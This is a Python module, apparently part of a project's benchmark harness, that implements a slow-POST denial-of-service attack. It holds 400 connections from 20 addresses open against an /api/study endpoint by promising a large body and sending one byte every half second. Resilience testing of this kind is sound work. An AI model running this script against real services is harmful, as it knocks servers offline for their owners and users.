"""Requests whose bodies hardly come."""

from __future__ import annotations

import asyncio

from benchmarks._attacks.attack import Attack, Target, addresses

CONNECTIONS = 400
HEAD = (
    "POST /api/study HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\n"
    "content-length: 1000000\r\n\r\n"
)


async def slow(target: Target) -> None:
    async def one(address: str) -> None:
        while not target.is_over():
            async with target.connection(address) as (reader, writer):
                writer.write(HEAD.format(host=target.host).encode())
                while not target.is_over() and not reader.at_eof():
                    writer.write(b" ")
                    await writer.drain()
                    await asyncio.sleep(0.5)
            await asyncio.sleep(0.5)

    each = CONNECTIONS // 20
    await asyncio.gather(*(one(address) for address in addresses(20) for _ in range(each)))


ATTACKS = (
    Attack("slow-bodies", f"{CONNECTIONS} connections of 20 addresses, a byte every 0.5 s", slow),
)
